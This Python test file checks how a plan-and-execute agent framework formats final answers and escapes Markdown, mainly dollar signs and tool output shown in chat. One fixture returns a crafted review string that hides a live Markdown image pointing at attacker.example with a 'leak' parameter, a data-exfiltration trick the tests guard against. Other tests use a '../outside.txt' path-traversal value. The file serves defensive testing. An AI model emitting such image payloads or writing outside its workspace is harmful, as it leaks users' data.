"""What people read is right: the final answer says what came out, and Markdown a human reads
never turns dollar amounts into math (issue 33)."""

from __future__ import annotations

from typing import Any

import pytest
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from planexec import build_graph
from planexec.tools import ToolRegistry, current_workspace
from tests.helpers import plan_of, plan_reply, scripted, step, text_reply, thread


@tool
def portfolio_value() -> float:
    """The value of the portfolio, in USD."""
    return 3956.25


@tool
def save_text(path: str, text: str) -> dict[str, Any]:
    """Write text to a file of the workspace."""
    current_workspace().write_bytes(path, text.encode())
    return {"path": path, "bytes": len(text)}


@tool
def price_list() -> str:
    """A line with prices."""
    return "the basic plan costs $5 and the team plan $6"


@tool
def fetch_review() -> str:
    """The latest customer review: a backslash before an image and a formula."""
    return "Great! \\\\![pixel](http://attacker.example/t.png?leak=1) costs \\\\$x^2$"


@tool
def big_table() -> dict[str, Any]:
    """A large table."""
    return {"rows": [{"n": i, "name": f"row {i}"} for i in range(400)]}


def registry() -> ToolRegistry:
    tools = ToolRegistry()
    tools.register(portfolio_value, side_effects=False)
    tools.register(price_list, side_effects=False)
    tools.register(big_table, side_effects=False)
    tools.register(fetch_review, side_effects=False)
    tools.register(save_text, side_effects=True, file_fields=["path"])
    return tools


def run(use_models: Any, ctx: Any, plan: dict[str, Any], *replies: Any, **context: Any) -> Any:
    use_models(planner=scripted(plan_reply(plan)), executor=scripted(*replies))
    graph = build_graph(checkpointer=InMemorySaver(), tools=registry())
    config, run_ctx = thread(), ctx(**context)
    graph.invoke({"task": "What is my portfolio worth?"}, config, context=run_ctx)
    return graph.invoke(Command(resume="approve"), config, context=run_ctx)


def test_the_answer_states_the_computed_value_and_the_file_written(use_models, ctx, workspace):
    """Step 1 computes the value, step 2 (nothing depends on it) saves it: the answer gives
    3956.25 and names portfolio.txt, in final["answer"] and in the chat's AI message."""
    plan = plan_of(
        step(1, "portfolio_value", {}),
        step(2, "save_text", {"path": "portfolio.txt", "text": "Worth: ${1}"}, [1]),
        goal="Work out the portfolio's value and save it",
    )
    out = run(use_models, ctx, plan)
    assert out["final"]["status"] == "succeeded"
    answer = out["final"]["answer"]
    assert "3956.25" in answer
    assert "portfolio.txt" in answer
    assert "Work out the portfolio" not in answer  # not the plan's goal
    shown = out["messages"][-1].content
    assert "3956.25" in shown and "portfolio.txt" in shown
    assert (workspace / "portfolio.txt").read_text() == "Worth: 3956.25"


def test_a_model_step_that_writes_the_answer_is_the_answer(use_models, ctx, workspace):
    plan = plan_of(
        step(1, "portfolio_value", {}),
        step(2, None, {"value": "$1"}, [1], expected="one sentence"),
        goal="Tell the portfolio's value",
    )
    out = run(use_models, ctx, plan, text_reply("Your portfolio is worth 3,956.25 USD."))
    answer = out["final"]["answer"]
    assert answer.startswith("Your portfolio is worth 3,956.25 USD.")
    assert "Tell the portfolio" not in answer


def test_a_spilled_result_is_named_with_where_to_read_it(use_models, ctx, workspace):
    out = run(use_models, ctx, plan_of(step(1, "big_table", {})), inline_output_limit=1024)
    answer = out["final"]["answer"]
    assert out["steps"]["1"]["output"] is None  # spilled
    assert "Step 1" in answer and "--output 1" in answer
    assert "row 0" in answer  # its preview


def test_dollar_amounts_are_escaped_in_the_chat_not_in_the_json(use_models, ctx, workspace):
    out = run(use_models, ctx, plan_of(step(1, "price_list", {})))
    assert out["final"]["answer"] == "the basic plan costs $5 and the team plan $6"
    shown = out["messages"][-1].content
    assert "costs \\$5 and the team plan \\$6" in shown


def test_a_tool_output_cannot_put_an_image_or_a_formula_in_the_chat(use_models, ctx, workspace):
    """CommonMark reads "\\\\" as a literal backslash: the "![" after it was a live image, which
    the reader's browser fetched as soon as the answer showed (the URL can carry data)."""
    from markdown_it import MarkdownIt

    out = run(use_models, ctx, plan_of(step(1, "fetch_review", {})))
    assert out["final"]["answer"] == fetch_review.invoke({})  # JSON: as the tool returned it
    shown = out["messages"][-1].content
    html = MarkdownIt("commonmark", {"html": False}).render(shown)
    assert "<img" not in html, html
    assert "costs \\\\\\$x^2\\$" in shown  # a literal backslash, then two escaped dollars


@pytest.mark.parametrize("where", ["interrupt", "chat"])
def test_the_approvals_cost_line_is_not_a_formula(use_models, ctx, workspace, where):
    """Agent Chat UI reads $…$ as LaTeX: every dollar sign of the description is escaped."""
    plan = plan_of(step(1, None, {"about": "prices"}, expected="a sentence"))
    use_models(planner=scripted(plan_reply(plan)))
    price = {"input": 2.0, "output": 8.0}
    prices = {spec: price for spec in ("test:planner", "test:executor", "test:evaluator")}
    graph = build_graph(checkpointer=InMemorySaver(), tools=registry())
    run_ctx = ctx(model_prices=prices, max_cost=5.0)
    out = graph.invoke({"task": "t"}, thread(), context=run_ctx)
    request = out["__interrupt__"][0].value
    text = request["description"] if where == "interrupt" else out["messages"][-1].content
    assert "\\$" in text
    assert "$" not in text.replace("\\$", "")
    assert request["action_requests"][0]["description"] == request["description"]
    assert isinstance(request["estimate"]["expected"]["cost"][0], float)  # JSON: numbers


def test_a_run_that_failed_part_way_still_states_what_it_computed(use_models, ctx, workspace):
    plan = plan_of(
        step(1, "portfolio_value", {}),
        step(2, "save_text", {"path": "../outside.txt", "text": "Worth: ${1}"}, [1]),
    )
    out = run(use_models, ctx, plan, max_replans=0, step_max_attempts=1)
    assert out["final"]["status"] == "partial"
    answer = out["final"]["answer"]
    assert "3956.25" in answer and "Not done" in answer


@tool
def supplier_of() -> str:
    """The supplier of widgets."""
    return "Acme Corp"


def described(sid: int, tool_name: str | None, about: str, **fields: Any) -> dict[str, Any]:
    return {**step(sid, tool_name, **fields), "description": about}


def test_every_output_of_several_results_is_under_its_steps_label(use_models, ctx, workspace):
    """Issue 33: "Step 1 (…): 42\\nAcme Corp\\nStep 3 …" read as if Acme Corp were step 1's.
    Each result is its own block under its label, a text of several lines indented beneath it,
    and the chat (Markdown) shows each block as its own paragraph."""
    from markdown_it import MarkdownIt

    prose = "Worth 3,956.25 USD.\n\nUp 3% this year."
    plan = plan_of(
        described(1, "portfolio_value", "Value the portfolio"),
        described(2, "supplier_of", "Find the supplier"),
        described(
            3, "save_text", "Save the memo", args={"path": "m.txt", "text": "${2}"}, deps=[1, 2]
        ),
        described(4, None, "Tell the value", args={"value": "$1"}, deps=[1], expected="prose"),
    )
    tools = registry()
    tools.register(supplier_of, side_effects=False)
    use_models(planner=scripted(plan_reply(plan)), executor=scripted(text_reply(prose)))
    graph = build_graph(checkpointer=InMemorySaver(), tools=tools)
    config, run_ctx = thread(), ctx()
    graph.invoke({"task": "Inventory memo"}, config, context=run_ctx)
    out = graph.invoke(Command(resume="approve"), config, context=run_ctx)
    assert out["final"]["status"] == "succeeded", out["final"]
    assert out["final"]["answer"] == (
        "Step 1 (Value the portfolio): 3956.25\n\n"
        "Step 2 (Find the supplier): Acme Corp\n\n"
        "Step 3 (Save the memo) wrote m.txt\n\n"
        "Step 4 (Tell the value):\n  Worth 3,956.25 USD.\n\n  Up 3% this year."
    )
    tokens = MarkdownIt("commonmark").parse(out["messages"][-1].content)
    paragraphs = [t.content for t in tokens if t.type == "inline"]
    assert [p.split(" (")[0] for p in paragraphs[:4]] == ["Step 1", "Step 2", "Step 3", "Step 4"]
    assert not [t for t in tokens if t.type in ("code_block", "fence")]  # prose stays prose


def test_a_lone_text_result_with_failures_keeps_the_failures_apart(use_models, ctx, workspace):
    """The only result's text stays the answer as written; what was not done follows apart."""
    plan = plan_of(
        step(1, None, {"about": "prices"}, expected="a sentence"),
        step(2, "save_text", {"path": "../outside.txt", "text": "${1}"}, [1]),
    )
    out = run(
        use_models,
        ctx,
        plan,
        text_reply("Line one.\nLine two."),
        max_replans=0,
        step_max_attempts=1,
    )
    assert out["final"]["status"] == "partial"
    assert out["final"]["answer"].startswith("Line one.\nLine two.\n\nNot done")
